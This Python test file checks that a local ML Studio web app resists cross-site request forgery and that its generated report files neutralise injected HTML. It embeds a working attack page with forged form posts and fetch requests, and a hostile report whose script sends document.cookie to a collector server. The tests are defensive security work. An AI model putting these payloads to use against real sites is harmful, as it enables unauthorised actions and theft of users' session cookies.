"""Another website must not be able to drive the Studio: an attack page served from another port on this same
machine tries to add a picture to a project and to start training — with a multipart form, with ``fetch`` in
``no-cors`` mode, with ``fetch`` and credentials, and with the headers a real Studio page sends. The project must
be unchanged afterwards (checked on the server, not in the browser).
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page

from tests._server import Server, free_port, running_server, teaching_pictures

API = "/studio/api/projects"

#: The attacker's page. ``TARGET`` is replaced by the Studio's address. Every attempt is made; what the browser
#: reports back is recorded, but the verdict is taken from the Studio's own state.
ATTACK_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Free kittens</title></head><body>
<h1>Free kittens</h1>
<iframe name="sink1" title="sink1"></iframe><iframe name="sink2" title="sink2"></iframe>
<form id="add" method="POST" enctype="multipart/form-data" target="sink1"
      action="TARGET/studio/api/projects/target/classes/cat/pictures"><input type="file" name="files"></form>
<form id="train" method="POST" enctype="multipart/form-data" target="sink2"
      action="TARGET/studio/api/projects/target/train"><input type="hidden" name="x" value="1"></form>
<script>
async function attack(pictureBase64) {
  const bytes = Uint8Array.from(atob(pictureBase64), (c) => c.charCodeAt(0));
  const file = () => new File([bytes], "evil.jpg", { type: "image/jpeg" });
  const form = () => { const data = new FormData(); data.append("files", file()); return data; };
  const pictures = "TARGET/studio/api/projects/target/classes/cat/pictures";
  const train = "TARGET/studio/api/projects/target/train";
  const results = {};
  const attempt = async (name, run) => {
    try { const answer = await run(); results[name] = answer.type + " " + answer.status; }
    catch (error) { results[name] = "failed: " + error.message; }
  };
  const loaded = (name) => new Promise((resolve) => {
    document.querySelector(`iframe[name=${name}]`).addEventListener("load", resolve, { once: true });
  });
  // 1. plain HTML forms (what any page can do, even without JavaScript), multipart like the Studio's uploads
  const transfer = new DataTransfer();
  transfer.items.add(file());
  const add = document.getElementById("add");
  add.elements[0].files = transfer.files;
  let done = loaded("sink1"); add.submit(); await done;
  done = loaded("sink2"); document.getElementById("train").submit(); await done;
  results["form pictures"] = "submitted";
  results["form train"] = "submitted";
  // 2. fetch without CORS (an opaque answer, but the request is sent)
  await attempt("no-cors pictures", () => fetch(pictures, { method: "POST", mode: "no-cors", body: form() }));
  await attempt("no-cors train", () => fetch(train, { method: "POST", mode: "no-cors" }));
  // 3. fetch with credentials (a "simple" request: sent without a preflight)
  await attempt("credentials pictures",
    () => fetch(pictures, { method: "POST", credentials: "include", body: form() }));
  await attempt("credentials train", () => fetch(train, { method: "POST", credentials: "include" }));
  // 4. what the Studio's own page sends: a custom header or JSON forces a preflight, which is not granted
  await attempt("custom header train", () => fetch(train, { method: "POST", headers: { "X-Opensight": "1" } }));
  await attempt("json train", () => fetch(train, {
    method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }));
  return results;
}
</script></body></html>
"""


class _AttackSite(http.server.BaseHTTPRequestHandler):
    page = b""
    asked: list[str] = []  # noqa: RUF012 - every path asked for, by any page

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(self.page)))
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def studio(tmp_path: Path) -> Iterator[Server]:
    with running_server(["studio"], home=tmp_path, log=tmp_path / "server.log") as server:
        yield server


@pytest.fixture
def attack_site(studio: Server) -> Iterator[int]:
    """The attacker's web server: another port on 127.0.0.1, serving the attack page aimed at the Studio."""
    yield from _attacker(ATTACK_PAGE.replace("TARGET", studio.url).encode())


@pytest.fixture
def collector() -> Iterator[int]:
    """The attacker's web server, where a page would send what it took (:attr:`_AttackSite.asked`)."""
    yield from _attacker(b"")


def _attacker(page: bytes) -> Iterator[int]:
    _AttackSite.page, _AttackSite.asked = page, []
    port = free_port()
    site = http.server.ThreadingHTTPServer(("127.0.0.1", port), _AttackSite)
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    try:
        yield port
    finally:
        site.shutdown()
        site.server_close()


def project_state(http: httpx.Client) -> tuple[list[tuple[str, int]], str, bool]:
    """What an attack would change: pictures per class, the training job, whether a model exists."""
    project = http.get(f"{API}/target").json()
    classes = [(entry["name"], len(entry["pictures"])) for entry in project["classes"]]
    return classes, str(project["training"]["state"]), bool(project["trained"])


@pytest.mark.parametrize("attacker_host", ["127.0.0.1", "localhost"])  # same site other port; another site
def test_a_page_on_another_origin_cannot_add_pictures_or_train(
    studio: Server, attack_site: int, page: Page, tmp_path: Path, attacker_host: str
) -> None:
    pictures = teaching_pictures(tmp_path / "pictures", per_class=2)
    with studio.client() as http:
        assert http.post(API, json={"name": "Target"}).status_code == 201
        for label in ("cat", "coffee"):
            assert http.post(f"{API}/target/classes", json={"name": label}).status_code == 201
            files = [("files", (p.name, p.read_bytes())) for p in sorted((pictures / label).glob("*.jpg"))]
            added = http.post(f"{API}/target/classes/{label}/pictures", files=files)
            assert added.status_code == 200, added.text
        before = project_state(http)
    assert before == ([("cat", 2), ("coffee", 2)], "idle", False)

    evil = base64.b64encode(_other_picture()).decode()
    page.goto(f"http://{attacker_host}:{attack_site}/")
    results = page.evaluate("(picture) => attack(picture)", evil)
    assert set(results) >= {"form pictures", "no-cors pictures", "credentials pictures", "credentials train"}

    with studio.client() as http:
        after = project_state(http)
    assert after == before, f"the attack page changed the project: {after} (browser saw {results})"
    refusals = studio.log.read_text().count("refused")
    assert refusals >= 6, f"expected the server to log each refused attempt; log:\n{studio.log.read_text()[-3000:]}"


def _other_picture() -> bytes:
    """A picture that is not yet in the project (so adding it would show)."""
    import io

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 60)).save(buffer, "JPEG")
    return buffer.getvalue()


#: A report someone else wrote into a model file (its checksums recomputed): a script that would send the reader's
#: cookies away, a script and a picture from their site, an event handler, a refresh to their site. ``SITE`` is
#: replaced by the collector's address.
HOSTILE_REPORT = """<!doctype html><html><head><title>report</title>
<meta http-equiv="refresh" content="0;url=SITE/refresh"></head><body><p id="said">Accuracy: 100%</p>
<script>document.title = "ran"; fetch("SITE/fetch?" + document.cookie);</script>
<script src="SITE/script.js"></script><img alt="" src="SITE/picture.png"><link rel="stylesheet" href="SITE/style.css">
<img alt="" src="data:," onerror="document.title = 'ran'"></body></html>"""


def test_a_report_someone_else_wrote_runs_nothing_and_loads_nothing(page: Page, tmp_path: Path, collector: int) -> None:
    import opensight as osi

    pictures = teaching_pictures(tmp_path / "pictures", per_class=2)
    good = osi.teach(pictures).save(tmp_path / "good.osm")
    hostile = _with_report(
        good, tmp_path / "hostile.osm", HOSTILE_REPORT.replace("SITE", f"http://127.0.0.1:{collector}")
    )
    written = tmp_path / "report.html"
    command = [sys.executable, "-m", "opensight", "report", str(hostile), "--out", str(written)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr

    page.goto(written.as_uri())
    page.wait_for_timeout(1500)  # time for a refresh, a fetch or a load to happen
    assert page.url == written.as_uri()
    assert page.title() == "report"
    assert page.locator("#said").inner_text() == "Accuracy: 100%"  # the page itself is shown
    assert _AttackSite.asked == [], f"the report loaded from or sent to another site: {_AttackSite.asked}"


def _with_report(source: Path, target: Path, report: str) -> Path:
    """A copy of the model file ``source`` with ``report`` as its report, the checksums recomputed."""
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["report.html"] = report.encode()
    manifest = json.loads(members["manifest.json"])
    manifest["members"] = {
        name: hashlib.sha256(data).hexdigest() for name, data in members.items() if name != "manifest.json"
    }
    members["manifest.json"] = json.dumps(manifest).encode()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target
